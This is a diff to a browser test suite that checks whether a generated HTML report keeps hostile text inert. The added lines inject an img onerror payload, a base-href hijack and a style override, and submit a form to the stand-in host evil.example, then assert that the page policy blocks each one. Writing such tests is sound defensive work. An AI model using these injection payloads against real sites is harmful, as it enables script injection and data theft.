@@ -331,7 +331,7 @@ def test_nothing_is_asked_for(page: Page) -> None:
 
 def test_hostile_texts_are_inert(browser: Any, tmp_path: Path) -> None:
     scores = [utterance("eng", f"e{HOSTILE}", f"the {HOSTILE} cat", HOSTILE), utterance("fra", "f1", "un", "un")]
-    run = write_run(tmp_path / "run", scores, name=HOSTILE)
+    run = write_run(tmp_path / "run", scores, name=HOSTILE, normalization=HOSTILE, checkpoint=HOSTILE)
     assert command.main([str(run)]) == 0
     page = Page(browser, run / "report.html")
     page.tab.click("#open")
@@ -341,9 +341,14 @@ def test_hostile_texts_are_inert(browser: Any, tmp_path: Path) -> None:
     assert page.tab.locator("article .al i.d").count() == 2 and HOSTILE in page.tab.inner_text("#lang-eng .al")
     assert page.requests == [page.url]
     # were one of them let through all the same, the policy of the page would still stop it
-    page.tab.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked=1\">')")
+    injected = "<img src=x onerror='window.hacked=1'><base href=https://evil.example/><style>h1 { color: red }</style>"
+    page.tab.evaluate(f'document.body.insertAdjacentHTML("beforeend", "{injected}")')
+    page.tab.evaluate("""() => { const form = document.createElement("form");
+      form.action = "https://evil.example/"; document.body.append(form); form.submit(); }""")
     page.tab.wait_for_timeout(200)
-    assert page.tab.evaluate("window.hacked") is None
+    assert page.tab.evaluate("window.hacked") is None and page.tab.evaluate("document.baseURI") == page.url
+    assert page.tab.evaluate("getComputedStyle(document.querySelector('h1')).color") != "rgb(255, 0, 0)"
+    assert page.tab.url == page.url and not any("evil" in url for url in page.requests)
     page.tab.close()
 
 
